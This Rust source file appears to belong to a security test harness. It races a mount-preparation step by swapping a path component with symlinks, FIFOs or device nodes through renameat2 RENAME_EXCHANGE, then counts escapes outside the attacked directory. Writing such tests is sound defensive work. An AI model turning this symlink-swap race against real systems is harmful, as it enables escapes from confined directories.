// SPDX-License-Identifier: Apache-2.0
//! The attack: a thread that exchanges a component back and forth while premount runs.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU8, Ordering};

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};

use crate::attacked_host::{AttackedHost, AttackedIn, CHAIN, Instead};
use crate::common::{is_root, make_fifo};

/// Runs until the world is made anew, each with a mountpoint of its own.
const RUNS_IN_A_WORLD: u64 = 40;

/// Exchanges the component at `depth` back and forth while `run` is called again and again. Gives how
/// many exchanges there were, and the worlds in which something outside changed.
pub fn attack(
    host: &AttackedHost,
    depth: usize,
    instead: Instead,
    runs: u64,
    run: impl Fn(&AttackedHost, u64),
) -> (u64, u64) {
    let outside = host.path("outside");
    let evil = host.attacked().join("evil");
    let put_evil = || {
        let deeper = CHAIN[depth].matches('/').count();
        let target = match instead {
            Instead::AbsoluteLink => outside.clone(),
            // From the directory that the component is in.
            Instead::RelativeLink => {
                let up = deeper + if host.at == AttackedIn::Source { 1 } else { 2 };
                PathBuf::from("../".repeat(up)).join("outside")
            }
            Instead::ProcLink => {
                Path::new("/proc/self/root").join(outside.strip_prefix("/").unwrap())
            }
            Instead::File => return fs::write(&evil, "").unwrap(),
            Instead::Device if is_root() => {
                // /dev/zero: to open it for reading would never end.
                let device = nix::sys::stat::makedev(1, 5);
                let mode = nix::sys::stat::Mode::from_bits_truncate(0o666);
                return nix::sys::stat::mknod(&evil, nix::sys::stat::SFlag::S_IFCHR, mode, device)
                    .unwrap();
            }
            Instead::Fifo | Instead::Device => {
                return make_fifo(&evil);
            }
        };
        symlink(target, &evil).unwrap();
    };
    let component = host.attacked().join(CHAIN[depth]);
    let (phase, mut escapes) = (AtomicU8::new(REST), 0);
    let exchanges = std::thread::scope(|scope| {
        let attacker = scope.spawn(|| exchange(&phase, &evil, &component));
        // Also where a run panics: the thread would go on for ever, and this scope with it.
        let end = End(&phase);
        let mut before = host.outside();
        for _ in 0..runs / RUNS_IN_A_WORLD {
            // The world is made anew in peace, and then there is war.
            phase.store(REST, Ordering::SeqCst);
            while phase.load(Ordering::SeqCst) != RESTING {
                std::thread::yield_now();
            }
            host.reset();
            put_evil();
            phase.store(WAR, Ordering::SeqCst);
            for number in 0..RUNS_IN_A_WORLD {
                run(host, number);
            }
            let after = host.outside();
            if after != before {
                escapes += 1;
                before = after;
            }
        }
        drop(end);
        attacker.join().unwrap()
    });
    (exchanges, escapes)
}

const REST: u8 = 0;
const RESTING: u8 = 1;
const WAR: u8 = 2;
const END: u8 = 3;

struct End<'a>(&'a AtomicU8);

impl Drop for End<'_> {
    fn drop(&mut self) {
        self.0.store(END, Ordering::SeqCst);
    }
}

/// The attacker: exchanges while it may. Gives how often.
fn exchange(phase: &AtomicU8, evil: &Path, component: &Path) -> u64 {
    let mut exchanges = 0;
    loop {
        match phase.load(Ordering::SeqCst) {
            WAR => {
                let flags = RenameFlags::RENAME_EXCHANGE;
                exchanges +=
                    u64::from(renameat2(AT_FDCWD, evil, AT_FDCWD, component, flags).is_ok());
            }
            END => return exchanges,
            _ => {
                let _ = phase.compare_exchange(REST, RESTING, Ordering::SeqCst, Ordering::SeqCst);
                std::thread::yield_now();
            }
        }
    }
}
